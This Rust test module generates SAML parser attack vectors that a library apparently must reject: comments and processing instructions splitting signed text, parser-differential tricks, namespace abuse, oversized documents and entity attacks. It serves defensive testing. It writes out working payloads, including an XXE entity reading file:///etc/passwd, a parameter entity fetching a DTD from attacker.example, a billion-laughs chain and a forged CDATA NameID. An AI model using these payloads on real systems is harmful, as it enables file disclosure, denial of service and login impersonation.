//! Attacks on the parser: comments, instructions, entities, names, sizes (saml.md §4, §5).

use std::fmt::Write as _;

use admittance::{
    crypto::{DigestAlgorithm, digest},
    encoding::{base64_encode, deflate},
    testing::saml_idp::SignedElements::{Assertion, Both},
};

use super::forge::{
    ADA, attribute, before, canonical_element, evil_copy, good, resigned, swap, swap_first, with_attribute,
    within_last,
};
use super::signature::with_digest_value;
use super::wrapping::Attack;
use super::{Vector, reject};

/// Each takes a signed response and splits a text, which canonicalisation without comments does not see.
pub(super) const COMMENTS: [(&str, Attack); 7] = [
    ("comment_in_name_id", |xml| within_name_id(xml, COMMENT)),
    ("comment_in_audience", |xml| swap(xml, "<saml:Audience>https://", "<saml:Audience>https:<!---->//")),
    ("comment_in_recipient", |xml| {
        let start = xml.find("<saml:SubjectConfirmationData ").unwrap();
        let end = start + xml[start..].find("/>").unwrap();
        [&xml[..end], "><!----></saml:SubjectConfirmationData>", &xml[end + 2..]].concat()
    }),
    ("comment_in_issuer", |xml| swap_first(xml, "Issuer>https://", "Issuer>https:<!---->//")),
    ("comment_in_digest_value", |xml| within_first(xml, "<ds:DigestValue>", COMMENT)),
    ("pi_in_name_id", |xml| within_name_id(xml, INSTRUCTION)),
    ("pi_in_attribute", |xml| swap(xml, ">Engineers<", "><?x?>Engineers<")),
];

pub(super) fn vectors() -> Vec<Vector> {
    let both = good(Both);
    let assertion = good(Assertion);
    let mut vectors: Vec<Vector> = COMMENTS
        .iter()
        .filter(|(name, _)| name.starts_with("comment_"))
        .map(|(name, attack)| {
            let shows = "a comment splits the text, and every signature stays valid";
            reject(name, "saml.xml_comment", shows, attack(&both))
        })
        .collect();
    vectors.extend(instructions(&assertion));
    vectors.extend(texts(&both));
    vectors.extend(documents(&assertion));
    vectors.extend(entities(&assertion));
    vectors.extend(sizes(&assertion));
    vectors
}

/// The provider has signed the instructions with the rest, as canonicalisation keeps them.
fn instructions(assertion: &str) -> Vec<Vector> {
    let id = attribute(assertion, "Assertion", "ID");
    let signed = |attack: Attack| {
        let canonical = attack(&String::from_utf8(canonical_element(assertion, id, &[])).unwrap());
        let digest = base64_encode(digest(DigestAlgorithm::Sha256, canonical.as_bytes()).as_ref());
        attack(&resigned(assertion, |info| with_digest_value(info, &digest)))
    };
    let attacks = COMMENTS.iter().filter(|(name, _)| name.starts_with("pi_"));
    let shows = "a processing instruction, which canonicalisation keeps and a reader may stop at";
    attacks
        .map(|(name, attack)| {
            reject(name, "saml.xml_processing_instruction", shows, signed(*attack))
                .twin("assertion_signed_only")
        })
        .collect()
}

fn texts(both: &str) -> Vec<Vector> {
    vec![
        reject(
            "comment_in_recipient_attribute",
            "saml.xml_malformed",
            "a comment's markup inside of the Recipient",
            swap(both, "Recipient=\"https://", "Recipient=\"https:<!---->//"),
        ),
        reject(
            "comment_in_signed_digest",
            "saml.xml_comment",
            "two DigestValues in one, the first commented out",
            within_first(both, "<ds:DigestValue>", "<!--47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=-->"),
        ),
        reject(
            "cdata_split_name_id",
            "saml.digest_mismatch",
            "the NameID is another one in front of a CDATA section",
            swap(both, &format!(">{ADA}</saml:NameID>"), ">eve<![CDATA[@corp.example]]></saml:NameID>"),
        )
        .twin("cdata_split_name_id"),
    ]
}

fn documents(assertion: &str) -> Vec<Vector> {
    let id = attribute(assertion, "Assertion", "ID");
    vec![
        reject(
            "parser_differential_doctype",
            "saml.xml_dtd",
            "a document type whose quotes hide a comment from one parser and not from the other",
            ["<!DOCTYPE r [<!NOTATION n PUBLIC \"x'\" 'x\"><!--'>]>", assertion, "<!-- '> -->"].concat(),
        ),
        reject(
            "parser_differential_quotes",
            "saml.xml_malformed",
            "an attribute without quotes, which lenient parsers read",
            swap_first(assertion, " Version=\"2.0\"", " Version=2.0"),
        ),
        reject(
            "parser_differential_quotes_repeated",
            "saml.xml_malformed",
            "an attribute twice, of which one parser takes the first and the other the last",
            swap_first(assertion, " Version=\"2.0\"", &format!(" Version=\"2.0\" ID=\"{id}x\"")),
        ),
        reject(
            "parser_differential_namespace",
            "saml.xml_namespace",
            "a prefix is undeclared, which one parser takes for a declaration of nothing",
            within_last(assertion, "Status", "<samlp:StatusDetail xmlns:ds=\"\"/>"),
        ),
        reject(
            "parser_differential_namespace_reserved",
            "saml.xml_namespace",
            "the prefix xml is bound to another namespace",
            within_last(assertion, "Status", "<samlp:StatusDetail xmlns:xml=\"https://attacker.example\"/>"),
        ),
        reject(
            "round_trip_unstable_names_element",
            "saml.xml_namespace",
            "an element's name with two colons changes when it is written and read again",
            before(assertion, "Status", "<samlp:Extensions><x:y:z xmlns:x=\"urn:x\"/></samlp:Extensions>"),
        ),
        reject(
            "round_trip_unstable_names_attribute",
            "saml.xml_malformed",
            "an attribute's name that begins with a colon changes when it is written and read again",
            before(assertion, "Status", "<samlp:Extensions :a=\"\"/>"),
        ),
        reject(
            "void_c14n_relative_namespace",
            "saml.xml_namespace",
            "a relative namespace name, for which canonicalisation may fail and leave nothing to digest",
            with_attribute(assertion, "Assertion", "xmlns:x", "relative"),
        ),
        reject(
            "void_c14n_empty_digest",
            "saml.digest_mismatch",
            "a validly signed digest of nothing",
            resigned(assertion, |info| {
                with_digest_value(info, "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=")
            }),
        ),
        reject("deflated_post", "saml.base64_invalid", "a posted message is deflated", "")
            .form(base64_encode(&deflate(assertion.as_bytes()))),
    ]
    .into_iter()
    .map(|vector| vector.twin("assertion_signed_only"))
    .collect()
}

fn entities(assertion: &str) -> Vec<Vector> {
    let id = attribute(assertion, "Assertion", "ID");
    // References stand where no signature covers them.
    let with_entity = |declarations: &str, reference: &str| {
        let message = format!("<samlp:StatusMessage>{reference}</samlp:StatusMessage>");
        let document = within_last(assertion, "Status", &message);
        format!("<!DOCTYPE samlp:Response [{declarations}]>{document}")
    };
    let mut laughs = "<!ENTITY a \"ha\">".to_owned();
    for (name, of) in ('b'..='j').zip('a'..) {
        let ten = format!("&{of};").repeat(10);
        write!(laughs, "<!ENTITY {name} \"{ten}\">").unwrap();
    }
    vec![
        reject(
            "entity_hides_duplicate_id",
            "saml.xml_dtd",
            "the original's ID, written as an entity, for a forged Assertion before it",
            format!(
                "<!DOCTYPE samlp:Response [<!ENTITY id \"{id}\">]>{}",
                before(assertion, "Assertion", &evil_copy(assertion).replace(super::forge::EVIL_ID, "&id;"))
            ),
        ),
        reject(
            "xxe_file",
            "saml.xml_dtd",
            "an entity that is a file of the receiver",
            with_entity("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;"),
        ),
        reject(
            "xxe_parameter_entity",
            "saml.xml_dtd",
            "declarations fetched from elsewhere",
            with_entity("<!ENTITY % x SYSTEM \"https://attacker.example/x.dtd\"> %x;", "&y;"),
        ),
        reject("billion_laughs", "saml.xml_dtd", "entities of entities", with_entity(&laughs, "&j;")),
        reject(
            "quadratic_entity",
            "saml.xml_dtd",
            "a long entity many times",
            with_entity(&format!("<!ENTITY x \"{}\">", "x".repeat(1000)), &"&x;".repeat(1000)),
        ),
    ]
    .into_iter()
    .map(|vector| vector.twin("assertion_signed_only"))
    .collect()
}

fn sizes(assertion: &str) -> Vec<Vector> {
    let extended =
        |markup: &str| before(assertion, "Status", &format!("<samlp:Extensions>{markup}</samlp:Extensions>"));
    let mut attributes = String::new();
    for number in 0..257 {
        write!(attributes, " a{number}=\"\"").unwrap();
    }
    let declarations = |numbers: std::ops::Range<u32>| {
        let mut text = String::new();
        for number in numbers {
            write!(text, " xmlns:n{number}=\"urn:n{number}\"").unwrap();
        }
        text
    };
    let mut wide = String::new();
    for level in 0..13 {
        write!(wide, "<x:a xmlns:x=\"urn:x\"{}>", declarations(level * 5..level * 5 + 5)).unwrap();
    }
    wide.push_str(&"</x:a>".repeat(13));
    vec![
        reject(
            "deep_nesting",
            "saml.xml_limit",
            "more nested elements than allowed",
            extended(
                &["<x:a xmlns:x=\"urn:x\">".to_owned(), "<x:a>".repeat(70), "</x:a>".repeat(71)].concat(),
            ),
        ),
        reject(
            "many_attributes",
            "saml.xml_limit",
            "more attributes on one element than allowed",
            extended(&format!("<x:a xmlns:x=\"urn:x\"{attributes}/>")),
        ),
        reject(
            "many_namespaces",
            "saml.xml_limit",
            "more namespaces declared on one element than allowed",
            extended(&format!("<x:a xmlns:x=\"urn:x\"{}/>", declarations(0..65))),
        ),
        reject(
            "wide_prefix_context",
            "saml.xml_limit",
            "more namespaces in scope than allowed, a few on each of many nested elements",
            extended(&wide),
        ),
    ]
    .into_iter()
    .map(|vector| vector.twin("assertion_signed_only"))
    .collect()
}

fn within_name_id(xml: &str, markup: &str) -> String {
    // Behind the first character: what follows would be cut off.
    let value = format!(">{ADA}</saml:NameID>");
    let (first, rest) = ADA.split_at(3);
    swap(xml, &value, &format!(">{first}{markup}{rest}</saml:NameID>"))
}

fn within_first(xml: &str, tag: &str, markup: &str) -> String {
    swap_first(xml, tag, &[tag, markup].concat())
}

const COMMENT: &str = "<!---->";
const INSTRUCTION: &str = "<?x?>";
